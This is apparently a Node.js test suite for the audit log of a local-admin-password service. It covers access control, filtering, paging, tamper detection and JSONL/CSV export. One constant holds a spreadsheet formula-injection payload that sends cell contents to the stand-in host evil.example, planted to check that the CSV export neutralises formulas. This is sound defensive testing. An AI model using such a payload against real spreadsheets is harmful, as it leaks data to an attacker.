// @ts-check
/** What auditors do: read, filter, verify and export the audit. */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import { execFileSync, spawnSync } from 'node:child_process';
import { after, before, describe, test } from 'node:test';
import { DEVICES, GROUPS, defaultWorld } from '../entra/world.mjs';
import { ruleSection } from '../lib/amlaps-conf.mjs';
import { assertApiHeaders, assertOk, assertProblem, summary } from '../lib/expect.mjs';
import path from 'node:path';
import { CHECKOUT } from '../lib/paths.mjs';
import { HELPDESK_RULE, startStage } from '../lib/stage.mjs';
import { chainProblems, recordHash } from '../lib/store.mjs';

const AUDIT = path.join(CHECKOUT, 'build/amlaps-audit');
const ROLES = 'AMLapsAuditor user auditor@contoso.com';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** @param {any} session @param {Record<string, string | number>} [query] */
const list = (session, query = {}) => session.get(`api/v1/audit?${new URLSearchParams(Object.entries(query).map(([k, v]) => [k, String(v)]))}`);

/** Reads page after page until there is no cursor. @param {any} session @param {Record<string, string | number>} query */
async function all(session, query, between = async () => {}) {
  /** @type {any[]} */
  const records = [];
  for (let cursor = ''; ;) {
    const page = assertOk(await list(session, cursor ? { ...query, cursor } : query));
    records.push(...page.records);
    if (page.cursor === null) return records;
    cursor = page.cursor;
    await between();
  }
}

/** Rows of RFC 4180. @param {string} text */
function readCsv(text) {
  /** @type {string[][]} */
  const rows = [];
  let row = [''];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    if (quoted && text.startsWith('""', i)) { row[row.length - 1] += '"'; i++; }
    else if (text[i] === '"') quoted = !quoted;
    else if (!quoted && text[i] === ',') row.push('');
    else if (!quoted && text.startsWith('\r\n', i)) { rows.push(row); row = ['']; i++; }
    else row[row.length - 1] += text[i];
  }
  assert.deepEqual([quoted, row], [false, ['']], 'CSV ends with a whole row');
  return rows;
}

describe('reading the audit', () => {
  /** @type {import('../lib/stage.mjs').Stage} */
  let stage;
  /** @type {any} */
  let auditor;
  /** @type {any} */
  let helpdesk;
  before(async () => {
    stage = await startStage({ amlaps: ROLES });
    auditor = await stage.signIn('auditor');
    helpdesk = await stage.signIn('helpdesk');
    assertOk(await helpdesk.password('contoso', DEVICES.lon001, { reason: FORMULA }));
    assertOk(await helpdesk.get('api/v1/devices?search=LON-00'));
    assertProblem(await (await stage.signIn('nobody')).password('contoso', DEVICES.lon001), 'not_authorized');
    assertProblem(await helpdesk.password('contoso', DEVICES.withoutLaps), 'no_password');
  });
  after(() => stage?.close([/amlaps:.*AML/]));

  test('the session tells the page who is an auditor', async () => {
    assert.deepEqual(assertOk(await auditor.get('api/v1/session')).roles, ['auditor']);
    assert.deepEqual(assertOk(await helpdesk.get('api/v1/session')).roles, []);
  });

  test('the newest come first, as the store has them, and without the reading itself', async () => {
    const stored = await stage.records();
    const { records, cursor } = assertOk(await list(auditor));
    assert.equal(cursor, null);
    assert.deepEqual(records, stored.reverse());
    assert.ok(records.every((/** @type {any} */ r) => r.hash === recordHash(r)));
  });

  test('each reading is recorded with what was asked', async () => {
    const start = await stage.lastSeq();
    const answer = await list(auditor, { actor: 'helpdesk@contoso.com', event: 'password', since: '2020-01-01T00:00:00Z', limit: 1 });
    assertOk(answer);
    const [record, ...more] = await stage.records(start);
    assert.equal(more.length, 0);
    assert.deepEqual([record.event, record.stage, record.outcome, record.code], ['audit', 'outcome', 'granted', 'ok']);
    assert.equal(record.actor.username, 'auditor@contoso.com');
    assert.equal(record.search, 'records actor=helpdesk@contoso.com event=password since=2020-01-01T00:00:00.000Z');
    assert.equal(assertOk(await list(auditor, { event: 'audit', limit: 1 })).records[0].id, record.id);
  });

  test('filters', async () => {
    const stored = (await stage.records()).reverse();
    const person = stage.person('helpdesk');
    const middle = stored[Math.floor(stored.length / 2)].time;
    /** @type {[Record<string, string>, (r: any) => boolean][]} */
    const filters = [
      [{ actor: person.username }, (r) => r.actor?.oid === person.id],
      [{ actor: person.username.toUpperCase() }, (r) => r.actor?.oid === person.id],
      [{ actor: person.id }, (r) => r.actor?.oid === person.id],
      [{ actor: 'hanna helpdesk' }, (r) => r.actor?.oid === person.id],
      [{ actor: 'helpdesk@contoso' }, () => false],
      [{ device: DEVICES.lon001 }, (r) => r.device?.deviceId === DEVICES.lon001],
      [{ device: 'lon-001' }, (r) => r.device?.deviceId === DEVICES.lon001],
      [{ device: 'LON-00' }, () => false],
      [{ event: 'password' }, (r) => r.event === 'password'],
      [{ outcome: 'denied' }, (r) => r.outcome === 'denied'],
      [{ outcome: 'pending', event: 'password' }, (r) => r.outcome === 'pending' && r.event === 'password'],
      [{ since: middle }, (r) => r.time >= middle],
      [{ until: middle }, (r) => r.time < middle],
      [{ since: middle, until: middle }, () => false],
      [{ since: '2100-01-01T00:00:00Z' }, () => false],
      [{ since: '1970-01-01T00:00:00Z' }, () => true],
      [{ since: '1601-01-01T00:00:00Z' }, () => true],
      [{ until: '1970-01-01T00:00:00Z' }, () => false],
      [{ actor: person.id, device: DEVICES.lon001, event: 'password', outcome: 'granted' },
        (r) => r.actor?.oid === person.id && r.device?.deviceId === DEVICES.lon001 && r.event === 'password' && r.outcome === 'granted'],
    ];
    const before = stored[0].seq;
    for (const [query, matches] of filters) {
      const got = (await all(auditor, query)).filter((r) => r.seq <= before);
      assert.deepEqual(got.map((r) => r.seq), stored.filter(matches).map((r) => r.seq), JSON.stringify(query));
    }
    assert.ok(filters.filter(([, matches]) => stored.some(matches)).length >= 11, 'the filters are about something');
  });

  test('pages neither skip nor repeat a record while others are written', async () => {
    const before = (await stage.records()).map((r) => r.seq).reverse();
    const got = await all(auditor, { limit: 2 }, async () => {
      assertOk(await helpdesk.get('api/v1/devices?search=LON-00'));
    });
    assert.deepEqual(got.map((r) => r.seq).filter((seq) => seq <= before[0]), before);
    assert.equal(new Set(got.map((r) => r.seq)).size, got.length);
    const exact = assertOk(await list(auditor, { until: (await stage.records())[0].time, limit: 1 }));
    assert.deepEqual([exact.records, exact.cursor], [[], null]);
  });

  test('a query that is not understood is refused, and says how to write it', async () => {
    const start = await stage.lastSeq();
    const bad = ['limit=0', 'limit=1001', 'limit=-1', 'limit=ten', 'limit=1e3', 'limit=%201', 'limit=01', 'limit=1&limit=1', 'limit', 'page=2', 'event=reveal',
      'outcome=success', 'since=yesterday', 'since=2026-11-32', 'until=1', 'until=2026-02-30T00:00:00Z', `actor=${'a'.repeat(257)}`, 'actor=%00',
      'actor=%ff', 'device=%0a', 'device=a&device=b', 'device=&device=b', 'cursor=1', 'cursor=1-0', 'cursor=1--1', 'cursor=1-5x', 'cursor=2-5', 'cursor=1-99999999999999999999',
      `cursor=1-5-5-${'0'.repeat(64)}`, 'stage=outcome', 'actor%00=x'];
    for (const query of bad) assertProblem(await auditor.get(`api/v1/audit?${query}`), 'bad_request');
    for (const query of ['cursor=1-5', 'cursor=1-5-0', 'cursor=1-5-5x', 'cursor=1-5-5-00', 'limit=5', `cursor=1-0-0-${'0'.repeat(64)}`, `cursor=1-5-${'0'.repeat(64)}`]) assertProblem(await auditor.get(`api/v1/audit/verify?${query}`), 'bad_request');
    for (const query of ['format=xml', 'limit=5', 'cursor=1-5', 'cursor=']) assertProblem(await auditor.get(`api/v1/audit/export?${query}`), 'bad_request');
    assert.match(assertProblem(await auditor.get('api/v1/audit?limit=0'), 'bad_request').detail, /1 to 1000/);
    assert.equal(await stage.lastSeq(), start);
    assertProblem(await auditor.post('api/v1/audit', {}), 'method_not_allowed');
  });

  test('an empty parameter counts as one that is not there', async () => {
    const none = 'actor=&device=&event=&outcome=&since=&until=';
    const { records } = assertOk(await list(auditor, { event: 'password', limit: 2 }));
    assert.deepEqual(assertOk(await auditor.get('api/v1/audit?actor=&device=&event=password&outcome=&since=&until=&cursor=&limit=2')).records, records);
    assert.equal((await stage.records()).at(-1).search, 'records event=password');
    const [newest] = assertOk(await auditor.get(`api/v1/audit?${none}&cursor=&limit=`)).records;
    assert.equal(newest.search, 'records event=password');
    assert.equal(assertOk(await auditor.get('api/v1/audit/verify?cursor=')).ok, true);
    const { status, headers } = await auditor.get(`api/v1/audit/export?${none}&format=`);
    assert.deepEqual([status, headers['content-type']], [200, 'application/x-ndjson; charset=utf-8']);
    assert.equal((await stage.records()).at(-1).search, 'export jsonl');
  });

  test('nobody else reads it, and the attempt is recorded', async () => {
    const start = await stage.lastSeq();
    for (const path of ['audit', 'audit/verify', 'audit/export', 'audit/export?format=csv']) {
      assert.match(assertProblem(await helpdesk.get(`api/v1/${path}`), 'not_authorized').detail, /^The audit is for auditors\..*AMLapsAuditor/);
    }
    const records = await stage.records(start);
    assert.deepEqual(records.map((r) => [r.event, r.outcome, r.code, r.search]), [['audit', 'denied', 'not_authorized', 'records'],
      ['audit', 'denied', 'not_authorized', 'verify'], ['audit', 'denied', 'not_authorized', 'export jsonl'], ['audit', 'denied', 'not_authorized', 'export csv']]);
    assert.ok(records.every((r) => r.actor.username === 'helpdesk@contoso.com'));
  });

  test('an export of everything is a chain that amlaps-audit verifies', async () => {
    const answer = await auditor.get('api/v1/audit/export');
    assert.equal(answer.status, 200, summary(answer));
    assertApiHeaders(answer);
    assert.match(answer.headers['content-type'], /^application\/x-ndjson/);
    assert.match(answer.headers['content-disposition'], /^attachment; filename="amlaps-audit-\d{8}T\d{6}Z\.jsonl"$/);
    const records = answer.text.trimEnd().split('\n').map((/** @type {string} */ line) => JSON.parse(line));
    assert.deepEqual(chainProblems(records), []);
    assert.deepEqual(records, await stage.records());
    assert.deepEqual([records.at(-1).event, records.at(-1).search], ['audit', 'export jsonl']);
    const file = stage.httpd.write('logs/export.jsonl', answer.text);
    assert.match(execFileSync(AUDIT, ['verify', file], { encoding: 'utf8' }), new RegExp(`^good: ${records.length} records`));
  });

  test('CSV holds the same, and no formula', async () => {
    const answer = await auditor.get('api/v1/audit/export?format=csv&event=password');
    assert.equal(answer.status, 200, summary(answer));
    assertApiHeaders(answer);
    assert.match(answer.headers['content-type'], /^text\/csv/);
    assert.match(answer.headers['content-disposition'], /\.csv"$/);
    const [head, ...rows] = readCsv(answer.text);
    const records = (await stage.records()).filter((r) => r.event === 'password');
    const column = (/** @type {string} */ name) => rows.map((row) => row[head.indexOf(name)]);
    assert.deepEqual(column('seq'), records.map((r) => String(r.seq)));
    assert.deepEqual(column('username'), records.map((r) => r.actor.username));
    assert.deepEqual(column('reason').filter(Boolean), [`'${FORMULA}`, `'${FORMULA}`]);
    assert.ok(rows.flat().every((cell) => !/^[\s]*[=+\-@]/.test(cell)), 'a cell begins as a formula does');
  });

  test('HEAD answers like GET, without the body', async () => {
    const answer = await auditor.request('api/v1/audit/export?format=csv', { method: 'HEAD' });
    assert.deepEqual([answer.status, answer.text], [200, '']);
    assert.match(answer.headers['content-type'], /^text\/csv/);
  });
});

describe('verification', () => {
  /** @type {import('../lib/stage.mjs').Stage} */
  let stage;
  before(async () => { stage = await startStage({ amlaps: ROLES }); });
  after(() => stage?.close([/amlaps:.*AML/]));

  test('a good trail, its head, and the first bad record of a manipulated one', async () => {
    const auditor = await stage.signIn('auditor');
    const helpdesk = await stage.signIn('helpdesk');
    for (let i = 0; i < 3; i++) assertOk(await helpdesk.password('contoso', DEVICES.lon001, { reason: `R${i}` }));
    const good = assertOk(await auditor.get('api/v1/audit/verify'));
    const records = await stage.records();
    assert.deepEqual(good, { ok: true, complete: true, cursor: null, records: records.length, last: records.length, head: records.at(-1).hash, problems: [] });
    const [own] = records.slice(-1);
    assert.deepEqual([own.event, own.search], ['audit', 'verify']);

    const part = assertOk(await auditor.get(`api/v1/audit/verify?cursor=1-2-2-${records[1].hash}`));
    assert.deepEqual([part.ok, part.records, part.last], [true, records.length + 1, records.length + 1]);
    assert.equal((await stage.records()).at(-1).search, 'verify, next part');

    const sought = assertOk(await auditor.get('api/v1/audit/verify?cursor=1-3-1'));
    assert.deepEqual([sought.ok, sought.complete, sought.last, sought.records], [true, true, records.length + 2, records.length + 2], 'where an export was looked for');
    assert.equal((await stage.records()).at(-1).search, 'verify, next part');

    const place = records.find((r) => r.reason === 'R1').seq;
    execFileSync('sqlite3', ['-cmd', '.timeout 5000', stage.store, `UPDATE record SET body = replace(body, 'R1', 'R9') WHERE seq = ${place}`]);
    const bad = assertOk(await auditor.get('api/v1/audit/verify'));
    assert.equal(bad.ok, false);
    assert.deepEqual([bad.records, bad.last, bad.head], [place - 1, place - 1, records[place - 2].hash]);
    assert.deepEqual(bad.problems.map((/** @type {any} */ p) => p.seq), [place]);
    assert.match(bad.problems[0].problem, /edited/);
    const listed = assertOk(await list(auditor, { limit: 1000 })).records;
    assert.equal(listed.length, (await stage.records()).length - 1, 'reading goes on over a manipulated record');
  });

  test('what is no JSON in the store stops nobody from reading the rest', async () => {
    const auditor = await stage.signIn('auditor');
    execFileSync('sqlite3', ['-cmd', '.timeout 5000', stage.store, "UPDATE record SET body = '{\"broken' WHERE seq = 2"]);
    const { records } = assertOk(await list(auditor, { limit: 1000 }));
    assert.deepEqual(records.find((/** @type {any} */ r) => r.seq === 2), { seq: 2 });
  });
});

describe('amlaps-audit with a copy', () => {
  test('that comes through a pipe, as from zcat, or was written anew on its way, reads all of it', async () => {
    const stage = await startStage({ amlaps: 'AMLapsAuditLog {root}/logs/copy.jsonl' });
    try {
      assertOk(await (await stage.signIn('helpdesk')).password('contoso', DEVICES.lon001));
      const copy = stage.httpd.path('logs/copy.jsonl');
      const lines = fs.readFileSync(copy, 'utf8').trim().split('\n');
      const anew = stage.httpd.write('logs/anew.jsonl', lines.map((line) => `${JSON.stringify(Object.fromEntries(Object.entries(JSON.parse(line)).reverse()), null, 1)
        .replaceAll('\n', '')}\r\n`).join(''));
      const bad = stage.httpd.write('logs/bad.jsonl', `${lines.join('\n').replace('LON-001', 'LON-002')}\n`);
      const run = (/** @type {string} */ words) => {
        const { status, stdout, stderr } = spawnSync('bash', ['-c', `${AUDIT} ${words}`], { encoding: 'utf8' });
        return `${status} ${stdout}${stderr}`;
      };
      assert.match(run(`verify <(gzip <${copy} | zcat)`), /^0 good: 3 records/);
      assert.match(run(`verify <(gzip <${bad} | zcat)`), /^1 BAD record 2: /);
      for (const anchor of [`<(cat ${copy})`, anew, `<(cat ${anew})`]) {
        assert.match(run(`verify ${stage.store} --anchor ${anchor}`), /^0 good: 3 records[^]*the anchor file covers records up to 3/, anchor);
      }
    } finally {
      await stage.close();
    }
  });
});

describe('amlaps-audit with a backup', () => {
  test('that lies where nobody can write reads it, and leaves nothing beside it', async () => {
    const stage = await startStage();
    const place = fs.mkdtempSync(path.join(os.tmpdir(), 'amlaps-%3f #-'));
    const shelf = path.join(place, 'read-only');
    const tool = path.join(place, 'amlaps-audit');
    try {
      assertOk(await (await stage.signIn('helpdesk')).password('contoso', DEVICES.lon001));
      fs.mkdirSync(shelf);
      fs.chmodSync(place, 0o755);
      fs.copyFileSync(AUDIT, tool);
      execFileSync('sqlite3', [stage.store, `.backup '${shelf}/backup.db'`]);
      fs.chmodSync(path.join(shelf, 'backup.db'), 0o444);
      fs.chmodSync(shelf, 0o555);
      // root may write everywhere
      const somebody = process.getuid?.() === 0 ? { uid: 65534, gid: 65534 } : {};
      const run = (/** @type {string} */ command) => execFileSync(tool, [command, path.join(shelf, 'backup.db')], { encoding: 'utf8', ...somebody });
      assert.match(run('verify'), /^good: 3 records/);
      assert.deepEqual(run('export').trim().split('\n').map((line) => JSON.parse(line)), await stage.records());
      assert.deepEqual(fs.readdirSync(shelf), ['backup.db']);
    } finally {
      await stage.close();
      fs.rmSync(place, { recursive: true });
    }
  });
});

describe('auditors by group', () => {
  /** The app may look groups of people up. */
  function world() {
    const made = defaultWorld();
    made.tenants[0].apps[0].roles.push('GroupMember.Read.All', 'User.ReadBasic.All');
    return made;
  }
  test('groups that the token leaves out are asked for', async () => {
    const stage = await startStage({ world: world(), amlaps: `AMLapsAuditor group ${GROUPS.londonHelpdesk}\nAMLapsGroupsFrom graph`, rules: HELPDESK_RULE });
    try {
      assertOk(await list(await stage.signIn('helpdesk')));
      assertProblem(await list(await stage.signIn('nobody')), 'not_authorized');
    } finally {
      await stage.close([/amlaps:.*AML/]);
    }
  });

  test('a rule that cannot be evaluated for want of Graph makes nobody an auditor', async () => {
    const stage = await startStage({ world: world(), amlaps: `AMLapsAuditor group ${GROUPS.londonHelpdesk}\nAMLapsGroupsFrom graph\nAMLapsCacheTime 0`, rules: ruleSection('x', ['AMLapsDevice all', 'AMLapsAllow all role X']) });
    try {
      const helpdesk = await stage.signIn('helpdesk');
      stage.entra.control.set({ fault: { match: 'getMemberGroups', kind: 'status', status: 503 } });
      const answer = await list(helpdesk);
      assert.ok(answer.status >= 500, summary(answer));
      assert.deepEqual((await stage.records()).filter((r) => r.event !== 'start').map((r) => [r.event, r.outcome]), [['audit', 'failed']]);
    } finally {
      await stage.close([/amlaps:.*AML/]);
    }
  });
});
